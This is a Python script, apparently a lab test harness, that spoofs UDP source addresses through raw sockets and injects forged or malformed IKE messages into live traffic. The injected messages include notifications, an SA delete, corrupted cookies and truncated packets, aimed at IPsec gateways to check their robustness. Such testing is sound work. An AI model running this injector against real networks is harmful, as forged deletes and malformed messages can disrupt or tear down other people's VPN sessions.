"""The lab's attacker. Sends UDP datagrams with any source address; can sit on the path and answer.

    attacker.py send FILE            lines: SOURCE PORT TARGET PORT HEX, sent as fast as is received
    attacker.py path INTERFACE SEED  for each IKE message on an interface, hostile variants of it
"""

import random
import socket
import struct
import sys
import time

PACE = 8000  # datagrams a second: below what a socket buffer holds


def udp_packet(source, source_port, target, target_port, payload):
    # RFC 768: checksum 0 means none was made.
    udp = struct.pack(">HHHH", source_port, target_port, 8 + len(payload), 0) + payload
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + udp


class Sender:
    def __init__(self):
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0
        self.begin = time.monotonic()

    def send(self, source, source_port, target, target_port, payload):
        packet = udp_packet(source, source_port, target, target_port, payload)
        self.raw.sendto(packet, (target, 0))
        self.sent += 1
        ahead = self.sent / PACE - (time.monotonic() - self.begin)
        if ahead > 0:
            time.sleep(ahead)


def send_file(path):
    sender = Sender()
    with open(path, encoding="utf-8") as file:
        for line in file:
            source, source_port, target, target_port, *payload = line.split()
            sender.send(source, int(source_port), target, int(target_port),
                        bytes.fromhex("".join(payload)))
    print(sender.sent)


def marked(port, message):
    """An IKE message as it stands on a port: with the non-ESP marker on 4500 (RFC 3948 2.2)."""
    return message if port == 500 else bytes(4) + message


def header(cookies, first, exchange, flags, message_id, length):
    """RFC 2408 3.1."""
    return cookies + struct.pack(">BBBBII", first, 0x10, exchange, flags, message_id, length)


def notify(cookies, kind, message_id=0, exchange=5, data=b""):
    """A plaintext Informational with one notification (RFC 2408 3.14)."""
    body = struct.pack(">BBHIBBH", 0, 0, 12 + len(data), 1, 1, 0, kind) + data
    return header(cookies, 11, exchange, 0, message_id, 28 + len(body)) + body


def delete(cookies):
    """A plaintext Informational that deletes the IKE SA (RFC 2408 3.15)."""
    body = struct.pack(">BBHIBBH", 0, 0, 28, 1, 1, 16, 1) + cookies
    return header(cookies, 12, 5, 0, 0x11223344, 28 + len(body)) + body


def hints(cookies):
    """Everything an attacker may claim without a key: it must change nothing."""
    yield from (notify(cookies, kind, message_id) for kind in (4, 7, 14, 16, 18, 24, 30)
                for message_id in (0, 0x01020304))
    # INITIAL-CONTACT, R-U-THERE, R-U-THERE-ACK, and CONNECTED.
    yield from (notify(cookies, kind, 0x0a0b0c0d, data=data)
                for kind, data in ((24578, b""), (36136, bytes(4)), (36137, bytes(4)),
                                   (16384, b"")))
    yield delete(cookies)


def variants(message, chance):
    """Hostile variants of one IKE message (without a marker)."""
    cookies = message[:16]
    yield from hints(cookies)
    yield message[:18] + bytes([message[18]]) + bytes([message[19] ^ 1]) + message[20:]
    yield chance.randbytes(8) + message[8:]
    yield message[:8] + chance.randbytes(8) + message[16:]
    # Right cookies and header, random ciphertext: the next genuine message must still decrypt.
    yield message[:28] + chance.randbytes(len(message) - 28)
    yield message + chance.randbytes(chance.randrange(1, 40))
    for _ in range(6):
        cut = chance.randrange(len(message))
        yield message[:cut]
        if cut >= 28:
            yield message[:24] + struct.pack(">I", cut) + message[28:cut]


def on_path(interface, seed):
    chance = random.Random(seed)
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sniffer.bind((interface, 0))
    sender = Sender()
    sent_by_us = set()
    print("ready", flush=True)
    while True:
        frame = sniffer.recv(65536)
        if frame[12:14] != b"\x08\x00" or frame[23] != 17:
            continue
        source, target = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
        source_port, target_port = struct.unpack_from(">HH", frame, 34)
        payload = frame[42:]
        from_gateway = source_port in (500, 4500) and source.startswith("203.0.113.")
        to_gateway = target_port in (500, 4500) and target.startswith("203.0.113.")
        message = payload
        if 4500 in (source_port, target_port):
            if payload[:4] != bytes(4):
                continue
            message = payload[4:]
        if len(message) < 28 or payload in sent_by_us or not (from_gateway or to_gateway):
            continue
        if to_gateway:
            # Claims that race the genuine answer, and the client's own message come back.
            route = (target, target_port, source, source_port)
            hostile = [*hints(message[:16]), message]
        else:
            route = (source, source_port, target, target_port)
            hostile = [*variants(message, chance)]
        for variant in hostile:
            datagram = marked(route[1], variant)
            sent_by_us.add(datagram)
            sender.send(*route, datagram)


if __name__ == "__main__":
    if sys.argv[1] == "send":
        send_file(sys.argv[2])
    else:
        on_path(sys.argv[2], int(sys.argv[3]))
